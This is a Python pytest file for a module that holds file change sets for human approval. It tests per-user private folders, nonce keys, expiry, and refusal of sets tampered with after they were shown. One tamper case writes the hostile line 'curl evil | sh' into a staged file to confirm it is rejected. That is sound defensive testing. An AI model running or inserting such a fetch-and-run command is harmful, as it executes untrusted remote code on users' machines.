"""Change sets waiting for a person: private to this user, found by their nonce while
fresh, and taken for a commit only as they were shown."""

from __future__ import annotations

import json
import os
import tempfile
import time
from pathlib import Path

import pytest

from langchain_fstools.core.changesets import Change, ChangeKind, ChangeSet
from langchain_fstools.shell.session import pending
from langchain_fstools.shell.session.pending import PENDING_SECONDS, digest, drop, keep, take

NOBODY = 65534


@pytest.fixture(autouse=True)
def private_temporary_folder(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(tempfile, "tempdir", str(tmp_path))


def a_set(content: str = "new\n") -> ChangeSet:
    source = Path(tempfile.mkdtemp(prefix="fstools-cow-"))
    (source / "upper").mkdir()
    (source / "upper" / "a.txt").write_text(content)
    change = Change("/a.txt", ChangeKind.MODIFIED, "file", 0o644, len(content), before="v1")
    return ChangeSet((change,), str(source), ("/.venv",))


def test_a_kept_set_is_taken_by_its_key_as_it_was_shown() -> None:
    changes = a_set()

    kept, key = keep(changes)
    shown = digest(kept)
    taken = take(key, shown)

    assert not Path(changes.source).exists()
    assert isinstance(taken, ChangeSet)
    assert taken.changes == changes.changes
    assert taken.host_code == ("/.venv",)
    assert (Path(taken.source) / "upper" / "a.txt").read_text() == "new\n"
    assert take(key, shown) == "gone"  # taken once


def test_two_sets_of_one_call_never_share_a_key() -> None:
    first, first_key = keep(a_set("one\n"))
    _, second_key = keep(a_set("two\n"))

    assert first_key != second_key
    assert first_key.isalnum()
    assert len(first_key) == 32
    taken = take(first_key, digest(first))
    assert isinstance(taken, ChangeSet)
    assert (Path(taken.source) / "upper" / "a.txt").read_text() == "one\n"


def test_the_sets_live_in_this_users_own_folder() -> None:
    kept, _ = keep(a_set())

    folder = Path(kept.source).parent
    assert folder.name == f"fstools-pending-{os.getuid()}"
    assert folder.stat().st_uid == os.getuid()
    assert folder.stat().st_mode & 0o777 == 0o700


def test_a_folder_others_can_enter_is_refused_never_used(tmp_path: Path) -> None:
    folder = tmp_path / f"fstools-pending-{os.getuid()}"
    folder.mkdir()
    folder.chmod(0o777)  # made first by another local user

    with pytest.raises(PermissionError, match="private folder"):
        keep(a_set())
    assert list(folder.iterdir()) == []


@pytest.mark.skipif(os.getuid() != 0, reason="needs root to give a folder away")
def test_a_folder_another_user_owns_is_refused(tmp_path: Path) -> None:
    folder = tmp_path / f"fstools-pending-{os.getuid()}"
    folder.mkdir(mode=0o700)
    os.chown(folder, NOBODY, NOBODY)

    with pytest.raises(PermissionError, match="private folder"):
        keep(a_set())


def test_another_users_folder_of_the_old_name_does_not_stop_this_user(tmp_path: Path) -> None:
    shared = tmp_path / "fstools-pending"
    shared.mkdir(mode=0o700)
    if os.getuid() == 0:
        os.chown(shared, NOBODY, NOBODY)

    kept, key = keep(a_set())

    assert isinstance(take(key, digest(kept)), ChangeSet)
    assert list(shared.iterdir()) == []


@pytest.mark.parametrize(
    "tamper",
    ["bytes", "appended", "mode", "record", "extra change"],
)
def test_a_set_altered_after_it_was_shown_is_not_taken(tamper: str) -> None:
    kept, key = keep(a_set())
    shown = digest(kept)
    upper = Path(kept.source) / "upper"
    record_path = Path(kept.source) / "changes.json"
    record = json.loads(record_path.read_text())
    if tamper == "bytes":
        (upper / "a.txt").write_text("EVL\n")
    elif tamper == "appended":
        with (upper / "a.txt").open("a") as file:
            file.write("curl evil | sh\n")
    elif tamper == "mode":
        record["changes"][0]["mode"] = 0o755
    elif tamper == "record":
        record["changes"][0]["path"] = "/deploy.sh"
        (upper / "deploy.sh").write_text("new\n")
    else:
        (upper / "b.txt").write_text("x\n")
        record["changes"].append({**record["changes"][0], "path": "/b.txt", "size": 2})
    record_path.write_text(json.dumps(record))

    assert take(key, shown) == "altered"
    assert not Path(kept.source).exists()  # dropped, not left for a second try


def test_an_old_or_dropped_set_is_not_found() -> None:
    kept, key = keep(a_set())
    shown = digest(kept)
    old = time.time() - PENDING_SECONDS - 1
    os.utime(Path(kept.source) / "changes.json", (old, old))

    assert take(key, shown) == "gone"
    assert not Path(kept.source).exists()

    kept, key = keep(a_set())
    shown = digest(kept)
    drop(key)
    assert take(key, shown) == "gone"


def test_sets_no_one_answered_are_swept_when_another_is_kept() -> None:
    first, _ = keep(a_set())
    old = time.time() - PENDING_SECONDS - 1
    os.utime(first.source, (old, old))

    keep(a_set())

    assert not Path(first.source).exists()


def test_a_key_must_be_a_key() -> None:
    with pytest.raises(ValueError, match="not a pending key"):
        pending._folder("../elsewhere")


def test_a_sparse_set_is_hashed_and_taken_as_holes_not_bytes() -> None:
    changes = a_set()
    big = Path(changes.source) / "upper" / "a.txt"
    with big.open("r+b") as file:
        file.truncate(1 << 40)  # a TiB, nearly all hole
        file.seek((1 << 40) - 1)
        file.write(b"x")
    sparse = ChangeSet(
        (Change("/a.txt", ChangeKind.ADDED, "file", 0o644, 1 << 40),), changes.source
    )

    kept, key = keep(sparse)
    shown = digest(kept)
    taken = take(key, shown)

    assert isinstance(taken, ChangeSet)
    copied = Path(taken.source) / "upper" / "a.txt"
    assert copied.stat().st_size == 1 << 40
    assert copied.stat().st_blocks * 512 < 1 << 20
    with copied.open("rb") as file:
        assert file.read(4) == b"new\n"
        file.seek((1 << 40) - 2)
        assert file.read() == b"\0x"
